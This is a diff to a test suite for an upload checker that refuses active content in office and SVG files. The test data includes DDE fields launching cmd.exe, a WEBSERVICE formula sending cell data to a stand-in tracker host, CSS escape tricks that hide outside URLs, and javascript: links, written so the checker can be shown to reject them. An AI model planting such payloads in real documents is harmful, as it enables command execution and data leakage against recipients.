@@ -219,6 +219,13 @@ for (const engine of testEngines()) {
       assert.equal(await fileCount(), before);
     });
 
+    it('reads a character reference beyond Unicode as U+FFFD instead of failing the upload', async () => {
+      for (const ref of ['&#x110000;', '&#99999999999999999999;']) {
+        const res = await upload(editor, [{ name: 'minutes.odt', bytes: odtWith(`<draw:frame><draw:image xlink:href="${ref}"/></draw:frame>`) }]);
+        assert.equal(res.statusCode, 200, res.body);
+      }
+    });
+
     it('refuses a file that grows beyond 50 MB when cleaned, in English and in Khmer, storing nothing', async () => {
       const before = await fileCount();
       const docx = await docxGrowingWhenCleaned();
@@ -412,6 +419,39 @@ describe('office documents: what else tells who made them', () => {
     assert.deepEqual(await checkUpload(withEmbedded(withMacros), 'chart.docx'), { ok: false, problem: 'activeContent' });
   });
 
+  it('refuses OLE objects, packages and controls wherever they are kept, and DDE and WEBSERVICE, and takes a clean package anywhere, cleaned', async () => {
+    const rels = (rel: string) => `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rel}</Relationships>`;
+    const ole = Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504)]);
+    const docxWith = (extra: Record<string, Uint8Array | string>) =>
+      Buffer.from(zipSync({ ...unzipSync(ooxmlFile('docx')), ...Object.fromEntries(Object.entries(extra).map(([name, value]) => [name, typeof value === 'string' ? strToU8(value) : value])) }));
+    const xlsxWith = (extra: Record<string, string>) => ooxmlFile('xlsx', extra);
+    const docm = new Uint8Array(ooxmlFile('docm'));
+    const clean = new Uint8Array(ooxmlFile('xlsx'));
+    const document = (body: string) => `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`;
+    const cases: Array<[string, Buffer, string]> = [
+      ['an OLE object outside embeddings/', docxWith({ 'word/media/x.bin': new Uint8Array(ole) }), 'report.docx'],
+      ['a macro document outside embeddings/', docxWith({ 'word/media/x.docx': docm }), 'report.docx'],
+      ['an oleObject relationship', docxWith({ 'word/_rels/document.xml.rels': rels(`<Relationship Id="rId9" Type="${WORD_RELS}/oleObject" Target="media/image1.png"/>`) }), 'report.docx'],
+      ['a control relationship', docxWith({ 'word/_rels/document.xml.rels': rels(`<Relationship Id="rId9" Type="${WORD_RELS}/control" Target="media/control1.xml"/>`) }), 'report.docx'],
+      ['a package relationship to a macro document', docxWith({ 'word/media/x.docm': docm, 'word/_rels/document.xml.rels': rels(`<Relationship Id="rId9" Type="${WORD_RELS}/package" Target="media/x.docm"/>`) }), 'report.docx'],
+      ['a package relationship to nothing taken', docxWith({ 'word/_rels/document.xml.rels': rels(`<Relationship Id="rId9" Type="${WORD_RELS}/package" Target="embeddings/missing.xlsx"/>`) }), 'report.docx'],
+      ['a DDEAUTO field in pieces', docxWith({ 'word/document.xml': document('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText xml:space="preserve">EAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r></w:p>') }), 'report.docx'],
+      ['a simple DDE field', docxWith({ 'word/document.xml': document('<w:p><w:fldSimple w:instr="&#68;DE cmd &quot;/c calc&quot; x"/></w:p>') }), 'report.docx'],
+      ['an Excel DDE link', xlsxWith({ 'xl/externalLinks/externalLink1.xml': '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>' }), 'figures.xlsx'],
+      ['a WEBSERVICE formula', xlsxWith({ 'xl/worksheets/sheet1.xml': '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>_xlfn.WEBSERVICE("https://tracker.example/?"&amp;B1)</f></c></row></sheetData></worksheet>' }), 'figures.xlsx'],
+    ];
+    for (const [what, bytes, name] of cases) assert.equal(await outcome(bytes, name), 'activeContent', what);
+
+    // A clean workbook is taken wherever it is kept and by a chart's package relationship, and cleaned as a file of its own.
+    const chart = docxWith({ 'word/media/book.xlsx': clean, 'word/charts/_rels/chart1.xml.rels': rels(`<Relationship Id="rId1" Type="${WORD_RELS}/package" Target="../media/book.xlsx"/>`) });
+    const check = await checkUpload(chart, 'chart.docx');
+    assert.ok(check.ok && check.kind === 'office', JSON.stringify(check));
+    assertNoMetadata(Buffer.from(unzipSync(check.cleaned)['word/media/book.xlsx']!));
+    // Ordinary fields and formulas stay.
+    assert.equal(await outcome(docxWith({ 'word/document.xml': document('<w:p><w:fldSimple w:instr=" PAGE "/><w:r><w:instrText> HYPERLINK "https://example.org/added" </w:instrText></w:r></w:p>') }), 'report.docx'), 'accepted');
+    assert.equal(await outcome(xlsxWith({ 'xl/worksheets/sheet1.xml': '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>SUM(B1:B9)</f></c></row></sheetData></worksheet>' }), 'figures.xlsx'), 'accepted');
+  });
+
   it('refuses an OpenDocument file saved with a password', async () => {
     const manifest = (inner: string) =>
       `<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">${inner}</manifest:file-entry></manifest:manifest>`;
@@ -492,6 +532,35 @@ describe('office documents: OpenDocument links, objects and settings', () => {
     assert.equal(await outcome(odtWith('', { 'Scripts/python/tracker.py': 'import os' }), 'minutes.odt'), 'macros');
     // A slide's ordinary actions stay: going to the next slide, or following a link when clicked.
     assert.equal(await outcome(odtWith('<office:event-listeners><presentation:event-listener script:event-name="dom:click" presentation:action="show" xlink:href="https://example.org/"/></office:event-listeners>'), 'minutes.odt'), 'accepted');
+  });
+
+  it('reads element and attribute names with any prefix, and refuses a tag it cannot read', async () => {
+    const ns = 'xmlns:ñ="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:ñl="http://www.w3.org/1999/xlink" xmlns:ŝ="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:ť="urn:oasis:names:tc:opendocument:xmlns:text:1.0"';
+    const cases: Array<[string, string]> = [
+      ['a linked picture', `<text:p><ñ:image ñl:href="http://tracker.example/p.png" ${ns}/></text:p>`],
+      ['an OLE object', `<ñ:frame ${ns}><ñ:object-ole ñl:href="./Object 1"/></ñ:frame>`],
+      ['an inline script', `<text:p><ť:script ${ns} ŝ:language="javascript">alert(1)</ť:script></text:p>`],
+      ['a DDE link', `<ť:dde-connection-decls ${ns}><ť:dde-connection-decl office:name="x" office:dde-application="cmd"/></ť:dde-connection-decls>`],
+      ['a tag that does not parse', '<text:p><draw:image xlink:href=http://tracker.example/p.png/></text:p>'],
+    ];
+    for (const [what, body] of cases) assert.equal(await outcome(odtWith(body), 'minutes.odt'), 'activeContent', what);
+    const rels = `<ñ:Relationships xmlns:ñ="http://schemas.openxmlformats.org/package/2006/relationships"><ñ:Relationship Id="rId1" Type="${WORD_RELS}/image" Target="http://tracker.example/p.png" TargetMode="External"/></ñ:Relationships>`;
+    assert.equal(await outcome(ooxmlFile('docx', { 'word/_rels/document.xml.rels': rels }), 'report.docx'), 'activeContent', 'a relationship with another prefix');
+  });
+
+  it('refuses DDE, WEBSERVICE and addresses outside the package in any value but a hyperlink, and a form control picture from outside', async () => {
+    const FORM = 'xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0"';
+    const cases: Array<[string, string]> = [
+      ['a named expression using DDE', '<table:named-expressions><table:named-expression table:name="x" table:expression="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)"/></table:named-expressions>'],
+      ['a validation using WEBSERVICE', '<table:content-validations><table:content-validation table:name="v" table:condition="of:cell-content-is-true-formula(WEBSERVICE(&quot;https://tracker.example/&quot;))"/></table:content-validations>'],
+      ['a named range in another file', "<table:named-expressions><table:named-range table:name=\"r\" table:cell-range-address=\"'file:///C:/Users/sokha/budget.ods'#$Sheet1.$A$1\"/></table:named-expressions>"],
+      ['a condition with a network path', '<table:table><table:table-row><table:table-cell table:condition="//tracker.example/x"/></table:table-row></table:table>'],
+      ['a form control picture', `<office:forms ${FORM}><form:form><form:button form:name="b" form:image-data="https://tracker.example/b.png"/></form:form></office:forms>`],
+      ['a form control picture beside the document', `<office:forms ${FORM}><form:form><form:image form:name="i" form:image-data="../b.png"/></form:form></office:forms>`],
+    ];
+    for (const [what, body] of cases) assert.equal(await outcome(odtWith(body), 'minutes.odt'), 'activeContent', what);
+    const kept = odtWith(`<text:p><text:a xlink:href="https://example.org/report">report</text:a> and https://example.org in the text</text:p><table:table><table:table-row><table:table-cell table:formula="of:=HYPERLINK(&quot;https://example.org/&quot;)" office:value-type="string" office:string-value="https://example.org/"/></table:table-row></table:table><office:forms ${FORM}><form:form><form:button form:name="b" form:image-data="Pictures/b.png"/></form:form></office:forms>`);
+    assert.equal(await outcome(kept, 'minutes.odt'), 'accepted');
   });
 
   it('takes a chart embedded as an OpenDocument sub-document, cleaning its meta.xml and settings like the document’s', async () => {
@@ -602,6 +671,10 @@ describe('office documents: SVG pictures', () => {
       ['another file', '<use xlink:href="file:///home/sokha/shapes.svg#a"/>'],
       ['a CSS address', '<rect width="1" height="1" style="fill:url(https://tracker.example/f.svg#p)"/>'],
       ['a CSS import', '<style>@import "https://tracker.example/s.css";</style>'],
+      ['a CSS address behind an escape', '<rect width="1" height="1" style="fill:u\\72l(https://tracker.example/f.svg#p)"/>'],
+      ['a CSS import behind an escape', '<style>@\\69mport "https://tracker.example/s.css";</style>'],
+      ['a CSS image set', '<rect width="1" height="1" style="fill:image-set(&quot;https://tracker.example/f.png&quot; 1x)"/>'],
+      ['a CSS src()', '<style>rect { fill: src("https://tracker.example/f.svg#p") }</style>'],
       ['a javascript link', '<a href="javascript:alert(1)"><text>x</text></a>'],
       ['an animated link', '<a href="#x"><set attributeName="href" to="https://tracker.example/"/></a>'],
     ];
